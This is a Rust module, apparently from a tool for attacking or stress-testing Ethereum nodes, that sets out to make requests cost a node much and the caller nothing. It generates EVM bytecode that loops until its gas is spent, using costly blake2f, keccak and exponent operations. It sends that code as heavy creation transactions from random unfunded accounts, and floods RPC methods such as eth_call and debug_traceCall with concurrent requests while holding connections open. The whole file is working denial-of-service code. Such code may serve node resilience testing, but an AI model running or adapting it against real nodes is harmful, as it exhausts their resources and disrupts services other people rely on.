//! Transactions and calls that cost a node much and a caller nothing.

use std::time::Duration;

use alloy_primitives::{B256, U256, hex};
use rand::{Rng, RngCore, rngs::StdRng};
use serde_json::json;
use tokio::io::AsyncWriteExt;

use super::client::{Attacker, post_request, rpc_body};
use crate::{
    Draft, Wallet,
    asm::{Code, op},
};

/// Code that goes on until its gas is used up.
fn endless(dice: &mut StdRng) -> Vec<u8> {
    let start = Code::new().ops(&[op::JUMPDEST]);
    let body = match dice.random_range(0..4) {
        // blake2f with as many rounds as a word of memory says.
        0 => start
            .push(dice.random_range(1_000_000..50_000_000))
            .push(224)
            .ops(&[0x1b])
            .push(0)
            .ops(&[op::MSTORE])
            .push(64)
            .push(0)
            .push(213)
            .push(0)
            .push(9)
            .ops(&[op::GAS, op::STATICCALL, 0x50]),
        // The hash of much memory.
        1 => start.push(dice.random_range(1_000..1_000_000)).push(0).ops(&[op::KECCAK256, 0x50]),
        // A large power.
        2 => start.push_word(U256::MAX).push_word(U256::MAX).ops(&[op::EXP, 0x50]),
        // Nothing at all.
        _ => start,
    };
    body.push(0).ops(&[op::JUMP]).bytes()
}

fn stranger(dice: &mut StdRng, chain_id: u64) -> Option<Wallet> {
    let mut key = B256::ZERO;
    dice.fill_bytes(key.as_mut_slice());
    Wallet::from_key(key).map(|wallet| wallet.on_chain(chain_id))
}

/// Sends creations that loop, from accounts without coin.
pub(super) async fn send_heavy_transactions(mut attacker: Attacker) {
    loop {
        let chain_id = attacker.targets.chain_id;
        let Some(mut wallet) = stranger(&mut attacker.dice, chain_id) else { continue };
        for _ in 0..attacker.dice.random_range(1..10) {
            let mut draft = Draft::deploy(endless(&mut attacker.dice));
            draft.gas_limit = attacker.dice.random_range(1_000_000..450_000_000);
            let signed = wallet.sign_legacy(draft);
            let _ = attacker.ask("eth_sendRawTransaction", &json!([hex::encode_prefixed(&signed.raw)])).await;
        }
    }
}

/// Calls that loop, many at once; those who asked may leave at once.
pub(super) async fn call(mut attacker: Attacker, leaves: bool) {
    let mut left = Vec::new();
    loop {
        let code = endless(&mut attacker.dice);
        let selector: u32 = attacker.dice.random();
        let input = hex::encode_prefixed([&code[..], &selector.to_be_bytes()].concat());
        let (method, params) = match attacker.dice.random_range(0..4) {
            0 => ("eth_estimateGas", json!([{ "data": input, "gas": "0x1dcd6500" }])),
            1 => ("eth_createAccessList", json!([{ "data": input, "gas": "0x1dcd6500" }, "latest"])),
            2 => ("debug_traceCall", json!([{ "data": input, "gas": "0x1dcd6500" }, "latest", {}])),
            _ => ("eth_call", json!([{ "data": input, "gas": "0x1dcd6500" }, "latest"])),
        };
        let Ok(mut stream) = attacker.connect(attacker.targets.rpc).await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        let _ = stream.write_all(&post_request("/", &rpc_body(method, &params), false)).await;
        if !leaves {
            left.push(stream);
        }
        if left.len() > 200 {
            left.clear();
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}
